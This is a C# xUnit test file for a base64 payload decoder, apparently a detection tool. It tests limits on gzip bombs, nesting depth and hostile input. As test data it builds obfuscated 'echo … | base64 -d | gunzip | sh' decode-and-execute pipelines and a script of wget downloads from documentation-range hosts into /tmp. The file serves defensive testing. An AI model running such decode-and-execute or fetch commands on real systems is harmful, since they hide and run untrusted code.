using System;
using System.Collections.Generic;
using System.Linq;
using System.Text;
using B64Hunt.Decoding;
using B64Hunt.Model;
using Xunit;
using static B64Hunt.Tests.Decoding.Payloads;

namespace B64Hunt.Tests.Decoding
{
    /// <summary>Bounded size and depth, hostile input.</summary>
    public class DecoderLimitTests
    {
        [Fact]
        public void GzipBombIsCutOffWithWarning()
        {
            const int limit = 1024 * 1024;
            string chunk = "echo pwned; ";
            var big = new StringBuilder();
            while (big.Length < 8 * limit) big.Append(chunk);
            string encoded = B64(Gzip(Utf8(big.ToString())));
            Assert.True(encoded.Length < 100_000);
            var problems = new List<Problem>();
            var decoder = new PayloadDecoder(new DecoderOptions { MaxDecodedBytes = limit });
            var results = decoder.Decode("echo " + encoded + " | base64 -d | gunzip | sh", problems);
            var payload = Assert.Single(results);
            Assert.True(payload.IsTruncated);
            Assert.False(payload.IsBinary);
            Assert.Equal(limit, payload.DecodedText.Length);
            Assert.StartsWith("echo pwned; echo pwned;", payload.DecodedText);
            Assert.Equal(new[] { "base64", "gzip" }, payload.Chain);
            var warning = Assert.Single(problems);
            Assert.Equal("DecompressionLimitExceeded", warning.ErrorId);
            Assert.Equal(ProblemKind.Warning, warning.Kind);
        }

        [Fact]
        public void CorruptGzipKeepsWhatInflatedWithWarning()
        {
            string script = string.Concat(Enumerable.Range(0, 400).Select(i => $"wget http://203.0.113.{i % 250}/{i * 7919 % 1000}.sh -O /tmp/{i}; "));
            byte[] gz = Gzip(Utf8(script));
            byte[] cut = gz.Take(gz.Length / 2).ToArray();
            var problems = new List<Problem>();
            var results = new PayloadDecoder().Decode("echo " + B64(cut) + " | base64 -d | gunzip | sh", problems);
            var payload = Assert.Single(results);
            Assert.True(payload.IsTruncated);
            Assert.True(payload.DecodedText.Length > 100 && payload.DecodedText.Length < script.Length);
            Assert.StartsWith(payload.DecodedText, script);
            Assert.Contains(problems, p => p.ErrorId == "DecompressionFailed");
        }

        [Fact]
        public void NestingStopsAtMaxDepthWithWarning()
        {
            // Six payloads, each inside the previous one's decoded command.
            string text = Command;
            var encodings = new List<string>();
            for (int i = 0; i < 6; i++)
            {
                string encoded = B64(text);
                encodings.Add(encoded);
                text = "echo " + encoded + " | base64 -d | sh";
            }
            var problems = new List<Problem>();
            var results = new PayloadDecoder(new DecoderOptions { MaxDepth = 3 }).Decode(text, problems);
            Assert.Equal(new[] { 0, 1, 2 }, results.Select(r => r.Depth));
            Assert.Equal(encodings[5], results[0].EncodedText);
            Assert.Equal(encodings[3], results[2].EncodedText);
            Assert.Equal(encodings[4], results[2].ParentEncodedText);
            Assert.Contains(problems, p => p.ErrorId == "DecodeDepthLimitExceeded" && p.Kind == ProblemKind.Warning);

            var all = new PayloadDecoder(new DecoderOptions { MaxDepth = 6 }).Decode(text);
            Assert.Equal(6, all.Count);
            Assert.Equal(Command, all[5].DecodedText);
        }

        [Fact]
        public void LayersStopAtMaxDepthWithWarning()
        {
            string encoded = Command;
            for (int i = 0; i < 8; i++) encoded = B64(encoded);
            var problems = new List<Problem>();
            var payload = Single("echo " + encoded + " | base64 -d | sh", new PayloadDecoder(new DecoderOptions { MaxDepth = 3 }));
            var all = new PayloadDecoder(new DecoderOptions { MaxDepth = 3 }).Decode("echo " + encoded + " | base64 -d | sh", problems);
            Assert.Equal(3, payload.Chain.Count);
            Assert.True(payload.IsTruncated);
            string expected = Command;
            for (int i = 0; i < 5; i++) expected = B64(expected);
            Assert.Equal(expected, payload.DecodedText);
            Assert.Contains(problems, p => p.ErrorId == "DecodeDepthLimitExceeded");

            var full = Single("echo " + encoded + " | base64 -d | sh", new PayloadDecoder(new DecoderOptions { MaxDepth = 10 }));
            Assert.Equal(8, full.Chain.Count);
            Assert.Equal(Command, full.DecodedText);
        }

        [Fact]
        public void TenMegabyteRandomLineYieldsNothing()
        {
            var random = new Random(42);
            var chars = new char[10 * 1024 * 1024];
            for (int i = 0; i < chars.Length; i++) chars[i] = (char)random.Next(0, 0x100);
            var problems = new List<Problem>();
            Assert.Empty(new PayloadDecoder().Decode(new string(chars), problems));
            Assert.Empty(problems);
        }

        [Fact]
        public void TenMegabyteRandomPrintableLineOnlyYieldsConsistentPayloads()
        {
            // Printable noise holds decoder keywords and countless short symbol runs; whatever passes the
            // tiers by chance must at least be a real, consistent decoding of a run of this line.
            var random = new Random(43);
            var chars = new char[10 * 1024 * 1024];
            for (int i = 0; i < chars.Length; i++) chars[i] = (char)random.Next(0x20, 0x7f);
            string line = new string(chars);
            var problems = new List<Problem>();
            var results = new PayloadDecoder().Decode(line, problems);
            Assert.True(results.Count < 64, $"{results.Count} chance payloads");
            foreach (var r in results)
            {
                Assert.Contains(r.EncodedText, line);
                Assert.NotEmpty(r.Chain);
                Assert.DoesNotContain(r.DecodedText, c => c < 0x20 && c != '\t' && c != '\n' && c != '\r');
            }
            Assert.DoesNotContain(problems, p => p.ErrorId == "DecoderFailed");
        }

        [Fact]
        public void TenMegabyteBase64RunWithoutDecoderYieldsNothing()
        {
            string line = "x " + B64(RandomBytes(7 * 1024 * 1024, 5)) + " y";
            Assert.True(line.Length > 9 * 1024 * 1024);
            Assert.Empty(new PayloadDecoder().Decode(line));
        }

        [Fact]
        public void TenMegabyteBase64RunWithDecoderIsCutToTheLimit()
        {
            string encoded = B64(RandomBytes(7 * 1024 * 1024, 6));
            var problems = new List<Problem>();
            var results = new PayloadDecoder().Decode("echo " + encoded + " | base64 -d > /tmp/blob", problems);
            var payload = Assert.Single(results);
            Assert.True(payload.IsBinary);
            Assert.True(payload.IsTruncated);
            Assert.True(payload.DecodedText.Length < 64 * 1024);
            Assert.Contains(problems, p => p.ErrorId == "PayloadSizeLimitExceeded");
        }

        [Fact]
        public void HostileLinesDoNotThrow()
        {
            var decoder = new PayloadDecoder();
            string[] lines =
            {
                "",
                "====",
                "%3D%3D%3D%3D%3D",
                "\\x4\\x\\x41\\x42\\x43",
                new string('\'', 100000),
                new string('=', 100000) + "abc",
                "\ud800\udfff\ud800 base64 -d " + new string('\ud800', 1000),
                string.Concat(Enumerable.Repeat("'AAAA''", 50000)),
                string.Concat(Enumerable.Repeat("AAAAAAAAAAAAAAAA\n", 50000)) + " base64",
                "base64 -d " + new string('/', 200000),
                "base64 -d H4sIAAAAAAAA" + new string('A', 100),
                "base64 -d eJw" + new string('A', 100),
            };
            foreach (string line in lines)
            {
                var problems = new List<Problem>();
                var results = decoder.Decode(line, problems);
                Assert.DoesNotContain(problems, p => p.ErrorId == "DecoderFailed");
                Assert.All(results, r => Assert.DoesNotContain(r.DecodedText, c => c < 0x20 && c != '\t' && c != '\n' && c != '\r'));
            }
        }

        [Fact]
        public void InvalidUtf16InCommandLineAroundPayload()
        {
            var payload = Single("\udc00 echo " + B64(Command) + " | base64 -d | sh \ud800");
            Assert.Equal(Command, payload.DecodedText);
        }

        [Fact]
        public void PayloadCountPerLineIsBounded()
        {
            string one = "echo " + B64("echo payload number") + " | base64 -d; ";
            var decoder = new PayloadDecoder();
            var line = new StringBuilder();
            for (int i = 0; i < 300; i++) line.Append("echo ").Append(B64("echo payload number " + i)).Append(" | base64 -d; ");
            var problems = new List<Problem>();
            var results = decoder.Decode(line.ToString(), problems);
            Assert.Equal(PayloadDecoder.MaxPayloadsPerLine, results.Count);
            Assert.Contains(problems, p => p.ErrorId == "PayloadLimitExceeded");
            Assert.NotEmpty(one);
        }
    }
}
